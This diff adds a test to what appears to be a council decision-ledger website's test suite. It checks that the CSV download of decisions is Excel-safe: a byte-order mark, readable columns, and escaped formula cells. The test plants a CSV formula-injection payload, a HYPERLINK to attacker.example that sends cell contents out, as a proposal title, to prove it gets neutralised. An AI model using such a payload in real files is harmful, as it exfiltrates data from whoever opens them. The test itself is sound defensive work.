@@ -294,6 +294,42 @@ describeOnEveryStore('the website', (api) => {
     expect(decision.text).toMatch(/The ledger learnt this on \d{1,2} \w+ \d{4} at \d{1,2}:\d{2}(am|pm) \(delegation revoked, position/);
     expect((await page('/decisions?outcome=adopted', { status: 400 })).text).toContain('outcome');
   });
+
+  it('gives a clerk the whole register in one CSV file that is safe to open in Excel: a byte-order mark, no live formula, readable columns', async () => {
+    // A title an attacker could table, which Excel would run as a formula if a cell began with it.
+    const formula = '=HYPERLINK("http://attacker.example/steal?d="&A1,"Click for the minutes")';
+    const proposalId = 'wirral-formula-in-a-title';
+    expect((await api().post('/v1/proposals', { id: proposalId, title: formula, summary: '+SUM(1,2) in a summary', scopes: ['commissioning'], keyDecision: false, proposedById: 'wirral-cabinet-member-adult-social-care', route: [{ organisationId: 'wirral-council', bodyId: 'wirral-cabinet', requirement: 'approve' }], tabledOn: '2018-01-08' })).status).toBe(201);
+    const ratified = await api().post(`/v1/proposals/${proposalId}/ratifications`, { ratificationId: 'wirral-cabinet-2018-01-15-formula', organisationId: 'wirral-council', deciderId: 'wirral-cabinet', version: 1, outcome: 'approved', decidedOn: '2018-01-15', reasons: '@SUM(A1:A9) as reasons' });
+    expect(ratified.status).toBe(201);
+    const since = ratified.headers['x-ledger-position'] as string;
+
+    let decisions = 0;
+    for (let cursor: string | null = null, first = true; first || cursor; first = false) {
+      const page = (await api().get(`/v1/bodies/wirral-cabinet/decisions?limit=1&minPosition=${since}${cursor ? `&cursor=${cursor}` : ''}`, { key: null })).json() as { items: unknown[]; nextCursor: string | null };
+      decisions += page.items.length;
+      cursor = page.nextCursor;
+    }
+    expect(decisions).toBeGreaterThan(2);
+    const csv = await api().get('/bodies/wirral-cabinet/decisions.csv?limit=1', { key: null });
+    expect(csv.status).toBe(200);
+    expect(csv.headers['x-next-cursor']).toBeUndefined();
+    expect(csv.body.startsWith('\uFEFF')).toBe(true);
+    const rows = csv.body.slice(1).trimEnd().split('\r\n');
+    expect(rows).toHaveLength(decisions + 1); // every decision, not the first page: the limit does not apply to the download
+    expect(rows[0]).not.toMatch(/\{|"\w+":/); // no JSON in the header
+    const formulaRow = rows.find((row) => row.startsWith('wirral-cabinet-2018-01-15-formula,'))!;
+    expect(formulaRow).toContain(`"'=HYPERLINK(""http://attacker.example`);
+    expect(formulaRow).toContain("'@SUM(A1:A9) as reasons");
+    expect(formulaRow).not.toMatch(/,=|,"=|,@|,"@/); // no cell Excel would run
+
+    const apiCsv = await api().get(`/v1/proposals?organisationId=wirral-council&limit=50&minPosition=${since}`, { key: null, headers: { accept: 'text/csv' } });
+    expect(apiCsv.body.startsWith('\uFEFF')).toBe(true);
+    expect(apiCsv.body).toContain(`"'=HYPERLINK(""http://attacker.example`);
+    expect(apiCsv.body).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    const paged = await api().get('/v1/proposals?limit=1', { key: null, headers: { accept: 'text/csv' } });
+    expect(paged.headers.link).toBe(`</v1/proposals?limit=1&cursor=${encodeURIComponent(paged.headers['x-next-cursor'] as string)}>; rel="next"`);
+  });
 });
 
 describeWithFreshApis('the website with anonymous reading switched off', (start) => {
